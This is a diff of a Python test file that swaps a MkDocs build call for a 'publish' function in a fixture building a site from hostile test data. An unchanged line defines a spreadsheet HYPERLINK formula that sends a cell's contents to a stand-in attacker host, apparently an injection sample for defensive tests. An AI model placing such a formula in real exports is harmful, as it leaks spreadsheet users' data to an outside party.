@@ -21,7 +21,7 @@ from conftest import CliResult, require_tool, write_archive
 from openpyxl import load_workbook
 
 from generator import exports
-from generator.mkdocs_plugin import build_with_mkdocs
+from generator.site.publish import publish
 from generator.validate import require_archive
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
@@ -78,7 +78,7 @@ def hostile_site(hostile_data: Path, tmp_path_factory: pytest.TempPathFactory) -
     """The real site (MkDocs and the plugin, as `dossier site` builds it) of the archive with those titles."""
     archive = require_archive(hostile_data)[0]
     out = tmp_path_factory.mktemp("hostile-site") / "site"
-    build_with_mkdocs(archive, out, "internal", tmp_path_factory.mktemp("hostile-cache"), workers=1)
+    publish(archive, out, "internal", tmp_path_factory.mktemp("hostile-cache"), workers=1)
     return out
 
 
